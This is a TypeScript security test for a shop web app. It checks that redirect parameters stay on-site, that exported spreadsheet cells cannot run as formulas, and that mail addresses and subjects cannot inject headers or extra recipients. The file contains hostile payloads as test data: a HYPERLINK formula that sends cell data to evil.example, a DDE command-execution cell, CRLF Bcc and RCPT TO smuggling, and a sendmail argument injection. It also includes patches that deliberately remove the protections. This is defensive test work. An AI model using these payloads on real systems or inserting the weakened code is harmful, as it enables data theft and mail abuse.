import { readFile } from 'node:fs/promises'
import path from 'node:path'
import Papa from 'papaparse'
import { ProductInput } from '../src/contract/catalog.ts'
import { createProduct } from '../src/server/catalog/save-product.ts'
import { enqueueMail } from '../src/server/mail/outbox.ts'
import type { Shop } from '../src/server/shop.ts'
import { createAccount } from '../src/server/users/users.ts'
import { safeRedirect } from '../src/web/paths.ts'
import { PASSWORD } from '../test/support/accounts.ts'
import { hostileAddresses } from '../test/support/hostile-addresses.ts'
import { insertPerson } from '../test/support/people.ts'
import { logIn, newVisitor, openBrowser } from './support/browser.ts'
import { until } from './support/buyers.ts'
import { clientAt } from './support/client.ts'
import { runCommand } from './support/command.ts'
import { headerOf, type MailServer, startMailServer } from './support/mail-server.ts'
import { newCluster, openShopOf, type Place, placeOn } from './support/places.ts'
import { Failures, type Proof, type ProofContext } from './support/proof.ts'
import { askRaw } from './support/raw.ts'
import { type Server, startServer } from './support/server.ts'

export const proof: Proof = {
  id: 'X2',
  title:
    'Ways out: spellings of other sites as ?redirect= of the login, as the way back of forms and as addresses lead nowhere else; cells of the exported sheet that begin like formulas do not run, and come back as they were; line breaks and lists in addresses and subjects make no header and no recipient at a real mail server. Tries are logins by the form of the page, each with another spelling',
  tries: { full: 80, short: 5 },
  minutes: 20,
  async run(context) {
    const failures = new Failures()
    const place = await placeOn(context, await newCluster(context))
    const shop = await openShopOf(context, place)
    const mail = await startMailServer(context)
    const server = await startServer(context, place, { env: { SMTP_URL: mail.url } })
    const asked = await redirects(server, failures)
    const logins = context.broken === undefined ? await signIns(context, shop, server, failures) : 0
    const cells = await sheet(context, place, shop, failures)
    const mails = await letters(shop, server, mail, failures)
    return {
      tries: `${hostileAddresses().length} spellings, ${asked} answers with them, ${logins} logins; ${cells} cells; ${mails.tried} addresses and subjects`,
      figure: `0 off the site, 0 live formulas, ${mails.sent} mails sent, each to one recipient and without another header`,
      failures: failures.list(),
    }
  },
  broken: [
    {
      name: 'any-slash',
      patches: [
        {
          file: 'src/web/paths.ts',
          find: "if (!target || target.startsWith('//') || target.includes('\\\\')) return undefined",
          replace: 'if (!target) return undefined',
        },
        {
          file: 'src/web/paths.ts',
          find: 'return OWN_ROUTES.test(target) || /^\\/[?#][^\\\\\\s]*$/.test(target) ? target : undefined',
          replace: "return target.startsWith('/') ? target : undefined",
        },
      ],
      failsWith: /redirect= leads off the site/,
    },
    {
      name: 'back-anywhere',
      patches: [
        {
          file: 'src/server/pages/pages.ts',
          find: "return /^\\/(?![/\\\\])[!-[\\]-~]*$/.test(target) ? target : '/'",
          replace: 'return target',
        },
      ],
      failsWith: /an answer leads off the site/,
    },
    {
      name: 'plain-cells',
      patches: [
        {
          file: 'src/server/catalog/spreadsheet.ts',
          find: "? `'${text}` : text",
          replace: '? text : text',
        },
      ],
      failsWith: /a live formula/,
    },
    {
      name: 'address-as-list',
      patches: [
        {
          file: 'src/server/mail/transport.ts',
          find: "to: { name: '', address: mail.recipient },",
          replace: 'to: mail.recipient,',
        },
      ],
      failsWith: /more than one recipient/,
    },
  ],
}

// ---- Addresses ---------------------------------------------------------------------------------------------------

async function redirects(server: Server, failures: Failures): Promise<number> {
  const isHere = (target: string) =>
    !URL.canParse(target, `${server.url}/login`) ||
    new URL(target, `${server.url}/login`).origin === server.url
  let asked = 0
  for (const spelling of hostileAddresses()) {
    const followed = safeRedirect(spelling)
    if (followed !== undefined && !isHere(followed))
      failures.add('?redirect= leads off the site', JSON.stringify(spelling))
    const form = { 'content-type': 'application/x-www-form-urlencoded' }
    const query = encodeURIComponent(spelling)
    const answers = await Promise.all([
      fetch(`${server.url}/edad`, {
        method: 'POST',
        headers: form,
        body: `volver=${query}`,
        redirect: 'manual',
      }),
      fetch(`${server.url}/login?redirect=${query}`, {
        method: 'POST',
        headers: form,
        body: '',
        redirect: 'manual',
      }),
      fetch(`${server.url}/login?redirect=${query}`, { redirect: 'manual' }),
      askAs(server, spelling),
    ])
    for (const answer of answers) {
      asked += 1
      const location =
        answer.headers instanceof Headers ? answer.headers.get('location') : locationOf(answer.headers)
      if (answer.status >= 500)
        failures.add('an unexpected error', `${answer.status} for ${JSON.stringify(spelling)}`)
      if (location && !isHere(location))
        failures.add('an answer leads off the site', `${JSON.stringify(spelling)} → ${location}`)
    }
  }
  return asked
}

/** With the spelling as the address that is asked for. */
function askAs(server: Server, spelling: string) {
  const url = /^[\x21-\x7e]+$/.test(spelling) ? spelling : encodeURI(spelling.toWellFormed())
  return askRaw(server.port, {
    method: 'GET',
    url: url.startsWith('/') ? url : `/${url}`,
    headers: { host: '127.0.0.1' },
  })
}

function locationOf(headers: string[]): string | undefined {
  const at = headers.findIndex((name, index) => index % 2 === 0 && name.toLowerCase() === 'location')
  return at < 0 ? undefined : headers[at + 1]
}

/** As a customer does it: the link, the form, and where the page goes then. */
async function signIns(
  context: ProofContext,
  shop: Shop,
  server: Server,
  failures: Failures,
): Promise<number> {
  const account = { username: 'camino', email: 'camino@correo.example', password: PASSWORD }
  await createAccount(shop, { ...account, email_verified: true, createdBy: null })
  const browser = await openBrowser(context)
  const all = hostileAddresses()
  // Spread over the list when there are fewer tries than spellings.
  const chosen = Array.from(
    { length: Math.min(context.tries, all.length) },
    (_, n) => all[Math.floor((n * all.length) / Math.min(context.tries, all.length))] ?? '',
  )
  for (const spelling of chosen) {
    const { visitor, page } = await newVisitor(browser)
    const left: string[] = []
    await visitor.route('**', (route) => {
      const { origin } = new URL(route.request().url())
      if (origin === server.url) return route.continue()
      left.push(route.request().url())
      return route.abort()
    })
    page.on('dialog', (dialog) => {
      left.push(dialog.message())
      void dialog.dismiss()
    })
    await logIn(page, `${server.url}/login?redirect=${encodeURIComponent(spelling)}`, 'camino', PASSWORD)
    await page.waitForLoadState('networkidle', { timeout: 5_000 }).catch(() => undefined)
    if (left.length > 0 || new URL(page.url()).origin !== server.url)
      failures.add(
        '?redirect= leads off the site',
        `${JSON.stringify(spelling)} in a browser: ${left.join()} ${page.url()}`,
      )
    await visitor.close()
  }
  return chosen.length
}

// ---- Cells -------------------------------------------------------------------------------------------------------

const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://evil.example?x="&A1,"ver")',
  "=cmd|'/C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  "'=1+1",
  "''=1+1",
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
  '=1+1;=2+2',
  '"=1+1"',
  '";=1+1;"',
]
/** What begins a formula in Excel, LibreOffice or Sheets; full-width ones in Excel too. An apostrophe makes it a text. */
const LIVE = /^[\s\0]*[=+\-@＝＋－＠]|^[\t\r\n]/
const TEXT_FIELDS = [
  'genotype',
  'thc',
  'cbd',
  'flavors',
  'effects',
  'flowering_time',
  'completed_cicle',
  'height_indoor',
  'height_outdoor',
  'yield_indoor',
  'yield_outdoor',
  'product_size',
  'sku',
  'description',
] as const

/** Written by the command, and read as spreadsheets do. */
async function sheet(context: ProofContext, place: Place, shop: Shop, failures: Failures): Promise<number> {
  for (const [n, formula] of FORMULAS.entries()) {
    const short = formula.slice(0, 40)
    const texts = Object.fromEntries(TEXT_FIELDS.map((field) => [field, short]))
    const blisters = [{ seed_count: 3, price: 100, stock: 1 }]
    const lines = `${short}\n${formula}\n\t${formula}`
    await createProduct(
      shop,
      ProductInput.parse({
        ...texts,
        sku: `${short.slice(0, 30)}${n}`,
        description: lines,
        name: `${short} ${n}`,
        type: 'fem',
        blisters,
      }),
      null,
    )
  }
  const file = path.join(context.folder, 'sheet.csv')
  const exported = await runCommand(place, ['products', 'export', file])
  if (exported.code !== 0) throw new Error(exported.text)
  const text = (await readFile(file, 'utf8')).replace(/^\uFEFF/, '')
  const { data, errors } = Papa.parse<string[]>(text, { delimiter: ';' })
  if (errors.length > 0) failures.add('a sheet that cannot be read', errors[0]?.message)
  const rows = data.slice(1).filter((row) => row.length > 1)
  failures.expect('rows of the sheet', rows.length, FORMULAS.length)
  const width = data[0]?.length
  for (const row of rows) {
    if (row.length !== width) failures.add('a cell became two', row.join(' | '))
    for (const cell of row) if (LIVE.test(cell)) failures.add('a live formula', JSON.stringify(cell))
  }
  const again = await runCommand(place, ['products', 'import', '--dry-run', file])
  if (again.code !== 0 || /→/.test(again.text))
    failures.add('the sheet does not come back as it was', again.text.slice(0, 300))
  return rows.length * (width ?? 0)
}

// ---- Mail --------------------------------------------------------------------------------------------------------

const VICTIM = 'victima@evil.example'
const ADDRESSES = [
  `ana@correo.example\r\nBcc: ${VICTIM}`,
  `ana@correo.example\nBcc: ${VICTIM}`,
  `ana@correo.example\rBcc: ${VICTIM}`,
  `ana@correo.example%0d%0aBcc: ${VICTIM}`,
  `ana@correo.example>\r\nRCPT TO:<${VICTIM}`,
  `ana@correo.example> NOTIFY=SUCCESS`,
  `ana@correo.example,${VICTIM}`,
  `ana@correo.example, ${VICTIM}`,
  `ana@correo.example;${VICTIM}`,
  `ana@correo.example ${VICTIM}`,
  `"${VICTIM}, x" <ana@correo.example>`,
  `"${VICTIM}"@correo.example`,
  `"ana@correo.example ${VICTIM}"@correo.example`,
  `<${VICTIM}> ana@correo.example`,
  `ana@correo.example<${VICTIM}>`,
  `grupo: ana@correo.example, ${VICTIM};`,
  `ana(${VICTIM})@correo.example`,
  `ana@[127.0.0.1]`,
  `@evil.example:ana@correo.example`,
  `ana%evil.example@correo.example`,
  `ana!evil@correo.example`,
  `ana@correo.example\0${VICTIM}`,
  `ana@correo.example\u2028Bcc: ${VICTIM}`,
  `=?utf-8?q?=0d=0aBcc=3a?=@correo.example`,
  `ana@cörreo.example`,
  `ａna@correo.example`,
  `ana@correo。example`,
  `ana@@correo.example`,
  `ana`,
  `@`,
  `-oQ/tmp@correo.example`,
  `ana+etiqueta@correo.example`,
  ' ana@correo.example ',
  `${'a'.repeat(65)}@correo.example`,
  `a@${'b.'.repeat(126)}example`,
]
const ALLOWED = new Set([
  'from',
  'to',
  'subject',
  'message-id',
  'date',
  'auto-submitted',
  'mime-version',
  'content-type',
  'content-transfer-encoding',
])

/** What people can type goes through the API; and, as if a check there were missing, straight into the outbox. */
async function letters(shop: Shop, server: Server, mail: MailServer, failures: Failures) {
  const visitor = clientAt(server.url)
  const admin = clientAt(server.url, (await insertPerson(shop, { admin: true })).access)
  const accepted = new Set<string>()
  for (const [n, email] of ADDRESSES.entries()) {
    const user = {
      first_name: 'Ana',
      last_name: 'Paz',
      username: `x2_${n}`,
      email,
      password: PASSWORD,
      password2: PASSWORD,
    }
    const resend = await visitor.post('/auth/resend-verification/', { email })
    const created = await admin.post('/auth/admin/create-user/', user)
    for (const { status, text } of [resend, created])
      if (status >= 500) failures.add('an unexpected error', `${JSON.stringify(email)}: ${text}`)
    if (created.status === 201) accepted.add(created.body.email)
  }
  for (const email of accepted)
    if (!/^[a-z0-9._%+-]+@correo\.example$/.test(email))
      failures.add('an odd address is accepted', JSON.stringify(email))
  const subjects = [
    `Hola\r\nBcc: ${VICTIM}`,
    `Hola\nBcc: ${VICTIM}`,
    `Hola\r\n\r\nBcc: ${VICTIM}`,
    `Hola\0x`,
    `Hola\u2028Bcc: ${VICTIM}`,
    `=?utf-8?b?${btoa(`x\r\nBcc: ${VICTIM}`)}?=`,
    'ñ'.repeat(300),
  ]
  const at = new Date()
  const straight = ADDRESSES.filter((address) => !address.includes('\0'))
  for (const to of straight)
    await enqueueMail(shop.db, { to, subject: 'Hola', text: `.\r\n.\r\nBcc: ${VICTIM}`, at })
  for (const subject of subjects)
    await enqueueMail(shop.db, { to: 'ana@correo.example', subject, text: 'Hola', at })
  const counts = async () => await shop.db.selectFrom('outbox').select(['sent_at', 'last_error']).execute()
  let left = await counts()
  await until(
    'all mails are tried',
    () => {
      void counts().then((rows) => (left = rows))
      return (
        left.length >= accepted.size + straight.length + subjects.length &&
        left.every((row) => row.sent_at !== null || row.last_error !== '')
      )
    },
    120,
  )
  for (const each of mail.received) {
    if (each.to.length !== 1) failures.add('more than one recipient', each.to.join())
    if (each.to.some((to) => !/^<[^<>\r\n]*>$/.test(to) || to === `<${VICTIM}>`))
      failures.add('another recipient', each.to.join())
    const names = each.headers.map(([name]) => name)
    const odd = names.filter((name, place) => !ALLOWED.has(name) || names.indexOf(name) !== place)
    if (odd.length > 0) failures.add('another header', odd.join())
    if (headerOf(each, 'to').length !== 1) failures.add('not one To', headerOf(each, 'to').join())
  }
  for (const line of mail.unknown) failures.add('another command', line)
  if (mail.received.length < accepted.size + subjects.length)
    failures.add('too few mails', String(mail.received.length))
  return { tried: ADDRESSES.length * 3 + subjects.length, sent: mail.received.length }
}
